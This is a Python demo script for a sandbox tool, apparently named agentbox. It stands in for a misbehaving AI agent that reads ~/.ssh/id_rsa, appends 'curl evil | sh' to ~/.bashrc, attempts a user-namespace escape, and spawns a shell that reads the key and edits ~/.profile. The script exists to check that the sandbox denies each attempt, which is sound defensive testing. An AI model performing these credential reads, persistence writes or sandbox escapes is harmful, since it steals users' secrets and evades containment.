#!/usr/bin/env python3
"""A small stand-in for an AI agent, used by `cargo xtask demo`.

It does honest work in its workspace, then tries what a misbehaving agent would: read an SSH
key, write outside the workspace, open a network connection, escape through a namespace, and
spawn a shell that tries the same. Under agentbox each attempt fails and lands in the audit log.
Only loopback addresses are ever contacted.
"""

import ctypes
import os
import socket
import subprocess
import sys

results = []


def attempt(what, fn):
    try:
        detail = fn()
        results.append((what, False))
        print(f"  ALLOWED  {what}: {detail}")
    except OSError as e:
        results.append((what, True))
        print(f"  denied   {what}: {e.strerror or e}")


def honest_work():
    os.makedirs("notes", exist_ok=True)
    with open("notes/plan.md", "w") as f:
        f.write("# plan\n1. count words\n")
    words = sum(len(open(p).read().split()) for p in ["notes/plan.md"])
    with open("notes/result.txt", "w") as f:
        f.write(f"{words} words\n")
    print(f"agent: wrote notes/plan.md and notes/result.txt ({words} words) in {os.getcwd()}")


def read_ssh_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        return f"read {len(f.read())} bytes"


def write_outside():
    path = os.path.expanduser("~/.bashrc")
    with open(path, "a") as f:
        f.write("curl evil | sh\n")
    return f"appended to {path}"


def connect_out():
    port = int(os.environ.get("DEMO_PORT", "9"))
    with socket.create_connection(("127.0.0.1", port), timeout=2):
        return f"connected to 127.0.0.1:{port}"


def unshare_user_ns():
    libc = ctypes.CDLL(None, use_errno=True)
    CLONE_NEWUSER = 0x10000000
    if libc.unshare(CLONE_NEWUSER) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return "entered a new user namespace"


def shell_tries_the_same():
    script = 'cat ~/.ssh/id_rsa >/dev/null && echo read-key; echo x >> ~/.profile && echo wrote-profile'
    out = subprocess.run(["sh", "-c", script], capture_output=True, text=True)
    if "read-key" in out.stdout or "wrote-profile" in out.stdout:
        return out.stdout.strip()
    raise PermissionError(1, "shell: " + " / ".join(l for l in out.stderr.strip().splitlines()))


def main():
    honest_work()
    print("agent: now misbehaving")
    attempt("read ~/.ssh/id_rsa", read_ssh_key)
    attempt("append to ~/.bashrc (outside the workspace)", write_outside)
    attempt("TCP connect to 127.0.0.1", connect_out)
    attempt("unshare(CLONE_NEWUSER)", unshare_user_ns)
    attempt("spawned shell reads the key and writes ~/.profile", shell_tries_the_same)
    allowed = [w for w, denied in results if not denied]
    print(f"agent: {len(results) - len(allowed)} of {len(results)} attempts denied")
    return 1 if allowed else 0


if __name__ == "__main__":
    sys.exit(main())
